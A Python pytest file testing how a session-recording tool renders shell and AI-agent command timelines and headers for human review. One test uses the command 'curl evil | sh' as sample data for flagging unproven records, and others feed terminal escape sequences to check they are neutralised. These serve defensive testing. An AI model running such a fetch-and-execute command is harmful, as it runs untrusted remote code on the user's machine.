"""What a reviewer sees: who, where, is it complete, and one line a command."""

from __future__ import annotations

import pytest
from rich.cells import cell_len

from devtrace.query.sessions import TALLY
from devtrace.views.timeline import header, timeline


@pytest.fixture
def shown(session_row, look, painted):
    """The timeline of some rows as text."""

    def show(*events, width=100, colours=False, hidden=0, session=None, **reader):
        short = {event["id"]: event["id"][:4] for event in events}
        lines = timeline(session or session_row(), events, short, look(width, **reader), hidden=hidden)
        return painted(lines, width, colours=colours)

    return show


@pytest.fixture
def headed(session_row, look, painted):
    """The header of a session as text."""

    def show(session=None, width=100, **counts):
        row = session or session_row()
        tally = dict.fromkeys(TALLY, 0) | counts
        return painted(header(row, tally, {row["id"]: row["id"][:8]}, look(width)), width)

    return show


def test_a_session_reads_like_a_page(shown, command_row, other_row):
    agent = command_row('claude "fix the login bug"', 4, 184, data={"output": {"seen": 1_400_000}})
    events = [
        command_row("git status", 0, 0.03, data={"output": {"seen": 312}}),
        agent,
        command_row("pytest -q", 10, 2.2, parent=agent["id"], source="bash_env", trusted=1),
        command_row("pytest -q", 13, 2.2, parent=agent["id"], source="bash_env", trusted=1, status="failed"),
        command_row("for f in *.py\ndo\n  wc $f\ndone", 200, 0.5, cwd="/home/ana/api/src"),
        other_row("note", "it skipped the flaky test", 230),
        other_row("gap", "gap: 3 lost_records (the reader stopped)", 250),
        command_row("make build", 260, 605, status="failed", exit_code=2, cwd="/home/ana/api/src"),
        command_row("vim notes", 890, None, status="interrupted", exit_code=None, cwd="/home/ana/api/src"),
        command_row("npm run dev", 900, None, status="running", exit_code=None, cwd="/home/ana/api"),
    ]

    assert shown(*events, width=80) == (
        "  14:03:12    30ms          git status                            312 B  2222\n"
        '  14:03:16   3m04s          claude "fix the login bug"           1.3 MB  1111\n'
        "                              + 2 nested, 1 failed\n"
        "                            in src/\n"
        "  14:06:32   500ms          for f in *.py (+3 lines)                     5555\n"
        "  14:07:02          note    it skipped the flaky test                    6666\n"
        "  14:07:22           GAP    3 lost_records (the reader stopped)          7777\n"
        "  14:07:32  10m05s  ✗ 2     make build                                   8888\n"
        "  14:18:02       ?  ! lost  vim notes                                    9999\n"
        "                            in ./\n"
        "  14:18:12  18m20s  ▶       npm run dev                                  aaaa\n"
        "\n"
        "  ! lost: the end was never seen\n"
        "  ▶: still running\n"
        "  nested commands are folded: --nested shows them\n"
    )


def test_nested_commands_unfold_under_their_parent(shown, command_row):
    outer = command_row("make", 0, 9)
    inner = command_row("bash run.sh", 1, 5, parent=outer["id"])
    deep = command_row("pytest", 2, 1, parent=inner["id"])
    other = command_row("ls", 20)

    assert shown(outer, inner, deep, other, nested=True) == (
        "  14:03:12   9.0s  make           1111\n"
        "  14:03:13   5.0s    bash run.sh  2222\n"
        "  14:03:14   1.0s      pytest     3333\n"
        "  14:03:32  100ms  ls             4444\n"
    )


def test_a_session_of_one_command_shows_what_the_command_did(shown, command_row):
    agent = command_row("claude", 0, 60)
    events = [agent, *(command_row(f"step {number}", number, parent=agent["id"]) for number in range(1, 4))]

    assert "step 2" in shown(*events)
    assert "step 2" not in shown(*events, nested=False)
    assert "+ 3 nested" in shown(*events, nested=False)


def test_folded_commands_are_counted_with_what_they_stand_for(shown, command_row):
    outer = command_row("make", 0, 9)
    events = [
        outer,
        command_row("one", 1, parent=outer["id"]),
        command_row(None, 2, parent=outer["id"], data={"folded": 250}, title="$ ... 250 more"),
        command_row("lost", 3, None, parent=outer["id"], status="interrupted", exit_code=None),
        command_row("runs", 4, None, parent=outer["id"], status="running", exit_code=None),
        command_row("ls", 20),
    ]

    assert "+ 253 nested, 1 lost, 1 running" in shown(*events)


def test_a_note_inside_a_command_is_never_folded(shown, command_row, other_row):
    outer = command_row("devtrace note hello", 0, 1)
    note = other_row("note", "hello", 0.5, parent=outer["id"])
    events = [outer, note, command_row("pytest", 0.6, parent=outer["id"]), command_row("ls", 3)]

    text = shown(*events)

    assert "note    " in text
    assert "pytest" not in text


def test_an_event_whose_parent_is_not_in_the_list_stands_for_itself(shown, command_row):
    text = shown(command_row("pytest", 1, parent="feedfacefeedface", status="failed"))

    assert "pytest" in text


def test_parents_in_a_circle_do_not_hang(shown, command_row):
    one, two = command_row("one", 1), command_row("two", 2)
    one["parent"], two["parent"] = two["id"], one["id"]
    own = command_row("own parent", 3)
    own["parent"] = own["id"]

    assert "own parent" in shown(own, one, two)


def test_midnight_is_said(shown, command_row):
    text = shown(command_row("late", 3600 * 9), command_row("later", 3600 * 10))

    assert text.index("late") < text.index("Sun 22 Nov 2026") < text.index("later")


def test_what_a_limit_left_out_is_said(shown, command_row):
    assert shown(command_row("ls"), hidden=80).startswith("  ... 80 earlier events not shown\n")


def test_a_record_without_proof_is_marked_and_explained(shown, command_row):
    text = shown(command_row("curl evil | sh", trusted=1), command_row("ls", 1))

    assert "curl evil | sh [unproven]" in text
    assert "unproven: the record came without" in text


def test_a_nested_command_of_the_process_tree_is_no_suspect(shown, command_row):
    assert "unproven" not in shown(command_row("ls", source="bash_env", trusted=1))
    assert "unproven" in shown(command_row("ls", source="bash_env", trusted=0))


def test_somebody_elses_command_is_named(shown, command_row):
    assert "ls [human]" in shown(command_row("ls", actor="human"))


def test_a_private_command_shows_that_it_ran(shown, command_row):
    text = shown(command_row(None, title="$ (private: leading space)"))

    assert "(private: leading space)" in text


def test_an_exit_that_nobody_told_is_no_success(shown, command_row):
    text = shown(command_row("sleep 9", status="unknown", exit_code=None, exit_source="pidfd"))

    assert "? end" in text
    assert "it ended, nobody said how" in text


def test_an_unknown_kind_of_event_is_shown_by_its_name(shown, other_row):
    assert "tea_break" in shown(other_row("tea_break", "a run"))


def test_a_long_command_is_cut_and_what_stands_behind_it_is_not(shown, command_row):
    long = command_row("echo " + "x" * 200 + "\nmore", trusted=0)

    lines = shown(long, width=60).splitlines()

    assert lines[0].endswith("… (+1 line) [unproven]  1111")
    assert cell_len(lines[0]) == 60


@pytest.mark.parametrize("width", [20, 30, 40, 60, 80, 120, 250])
def test_no_row_is_wider_than_the_terminal(shown, command_row, other_row, width):
    rows = [
        command_row("日本語 " * 40, 1, 1, data={"output": {"seen": 99999}}),
        other_row("gap", "gap: x" * 90, 2),
    ]

    assert max(cell_len(line) for line in shown(*rows, width=width).splitlines()) <= width


def test_the_id_survives_the_narrowest_terminal(shown, command_row):
    assert shown(command_row("x" * 100, 1, 1), width=20).splitlines()[0].endswith("1111")


def test_a_pipe_gets_the_whole_line_and_no_colour(shown, command_row):
    text = shown(command_row("echo " + "x" * 300), width=None)

    assert "x" * 300 in text
    assert "\x1b" not in text


def test_failures_and_gaps_are_loud_and_the_rest_is_quiet(shown, command_row, other_row):
    text = shown(
        command_row("ok", 0),
        command_row("bad", 1, status="failed"),
        other_row("gap", "gap: lost", 2),
        colours=True,
    )

    assert "\x1b[1;31m✗ 1\x1b[0m" in text
    assert "\x1b[1;30;43m GAP \x1b[0m" in text
    assert "\x1b[2m14:03:12\x1b[0m" in text


def test_a_command_that_was_stopped_is_told_apart_from_a_failed_one(shown, command_row):
    lines = shown(command_row("vim", status="stopped", exit_code=148), command_row("bad", status="failed"))

    assert "= stop  vim" in lines
    assert "  = stop: the shell gave the status of a stopped job, as after Ctrl-Z;" in lines


def test_escape_sequences_of_a_command_stay_visible_text(shown, command_row):
    row = command_row("printf '\x1b]0;x\x07'", cwd="/tmp/\x1b[2J")

    text = shown(row, command_row("ls", 1))

    assert r"printf '\e]0;x\x07'" in text
    assert r"in /tmp/\e[2J/" in text
    assert "\x1b" not in text


def test_a_header_counts_what_was_stopped(headed, session_row):
    assert "commands    3, 1 failed, 1 stopped\n" in headed(session_row(), commands=3, failed=1, stopped=1)


def test_a_header_says_who_where_when_how_many_and_whether_all_is_there(headed, session_row):
    row = session_row(title="fix the login bug", head_end="5d6e7f8091a2b3c4")

    assert headed(row, commands=14, failed=2, nested=31, nested_failed=1, notes=1) == (
        "session     019aa6e0  claude-code  fix the login bug\n"
        "where       ~/api on main at 1a2b3c4d, then 5d6e7f80, bash on laptop\n"
        "when        Sat 21 Nov 2026 14:03:12, took 22m28s\n"
        "commands    14, 2 failed; 31 nested, 1 failed; 1 note\n"
        "record      complete; no gaps; every record proven\n"
    )


@pytest.mark.parametrize(
    ("changes", "counts", "line"),
    [
        ({}, {"commands": 3, "gaps": 2}, "incomplete;  2 gaps ; every record proven"),
        ({}, {"commands": 3, "lost": 1}, "incomplete; 1 end never seen; every record proven"),
        ({}, {"commands": 3, "unproven": 2}, "complete; no gaps; 2 records unproven"),
        ({}, {}, "complete; no gaps"),
        (
            {"status": "active", "ended_us": None},
            {"commands": 1},
            "still recording; no gaps; every record proven",
        ),
        (
            {"status": "interrupted", "ended_us": None},
            {"commands": 1, "lost": 1},
            "interrupted: the recording stopped without a word; 1 end never seen; every record proven",
        ),
    ],
)
def test_the_last_line_of_the_header_answers_is_this_complete(headed, session_row, changes, counts, line):
    assert headed(session_row(**changes), **counts).splitlines()[-1] == f"record      {line}"


def test_a_session_that_still_runs_says_for_how_long(headed, session_row):
    text = headed(session_row(status="active", ended_us=None), running=1)

    assert "14:03:12, for 33m20s" in text
    assert "0, 1 running" in text


def test_a_session_without_repository_agent_or_host_has_a_header_too(headed, session_row):
    row = session_row(
        agent="",
        actor="human",
        repo_root=None,
        branch=None,
        head_start=None,
        shell=None,
        host=None,
        title=None,
    )

    assert headed(row).splitlines()[:2] == ["session     019aa6e0  human", "where       ~/api"]


def test_a_nested_session_names_the_outer_one(headed, session_row):
    assert "inside session 019aa0000000" in headed(session_row(parent_session="019aa0000000ffff"))


def test_what_strangers_wrote_into_a_session_is_harmless(headed, session_row):
    row = session_row(title="\x1b[2J", branch="x\u202ey", host="\x07", cwd="/\x9b", agent="custom:\x1b")

    assert "\x1b" not in headed(row)
    assert "\u202e" not in headed(row)
